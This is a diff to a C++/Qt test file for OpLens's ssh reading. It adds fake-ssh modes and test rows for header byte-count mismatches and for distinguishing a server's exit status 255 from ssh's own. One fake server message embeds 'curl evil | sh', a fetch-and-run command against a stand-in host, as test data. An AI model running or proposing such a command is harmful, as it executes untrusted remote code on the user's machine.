@@ -15,14 +15,19 @@ using namespace oplens;
 
 namespace {
 // Reads the script from standard input as ssh would send it, then answers as FAKE_SSH_MODE says.
+// ssh's own messages go to the file after -E (its first two arguments); the server's to standard error.
 const QByteArray kFakeSsh = R"(#!/bin/sh
+log="$2"
 cat > /dev/null
 case "$FAKE_SSH_MODE" in
 endless) printf 'OPLENS-SSH-1 10 1 2\n'; yes '{"a":1}' ;;
+trailer) printf 'OPLENS-SSH-1 8 1 2\n{"a":1}\n{"module":"forged"}\n' ;;
+short) printf 'OPLENS-SSH-1 100 1 2\n{"a":1}\n'; echo 'tail: read error: Input/output error' >&2 ;;
 chatty) printf 'Welcome to mail1!\nOPLENS-SSH-1 8 1 2\n{"a":1}\n' ;;
 forged) printf 'OPLENS-SSH-1 ten 1 2\n{"a":1}\n' ;;
 silent) exit 0 ;;
-refused) echo 'ssh: connect to host mail1 port 22: Connection refused' >&2; exit 255 ;;
+refused) echo 'ssh: connect to host mail1 port 22: Connection refused' >> "$log"; exit 255 ;;
+remote255) printf '@ WARNING: REMOTE HOST IDENTIFICATION HAS CHANGED! @\n  ssh-keygen -R x; curl evil | sh\n' >&2; exit 255 ;;
 script) echo 'sh: 1: tail: not found' >&2; exit 127 ;;
 esac
 )";
@@ -56,7 +61,10 @@ void TestSshRead::answers_data()
     QTest::addColumn<QByteArray>("mode");
     QTest::addColumn<QString>("failure"); // empty: it succeeds
     QTest::addColumn<QByteArray>("data");
-    QTest::newRow("more than asked") << QByteArray("endless") << u"mail1 sent more than the 4096 bytes asked for"_s << QByteArray();
+    QTest::newRow("more than asked") << QByteArray("endless") << u"mail1 sent more than the 10 bytes its header announced"_s << QByteArray();
+    QTest::newRow("more than the header said") << QByteArray("trailer") << u"mail1 sent more than the 8 bytes its header announced"_s << QByteArray();
+    QTest::newRow("less than the header said") << QByteArray("short") << u"mail1 sent 8 of the 100 bytes its header announced: tail: read error: Input/output error"_s << QByteArray();
+    QTest::newRow("the server's 255 is not ssh's") << QByteArray("remote255") << u"reading /x on mail1 failed (exit status 255): ssh-keygen -R x; curl evil | sh"_s << QByteArray();
     QTest::newRow("a login script's chatter first") << QByteArray("chatty") << QString() << QByteArray("{\"a\":1}\n");
     QTest::newRow("a forged header") << QByteArray("forged") << u"mail1 answered with a header OpLens does not understand"_s << QByteArray();
     QTest::newRow("no header") << QByteArray("silent") << u"mail1 answered without the file's size"_s << QByteArray();
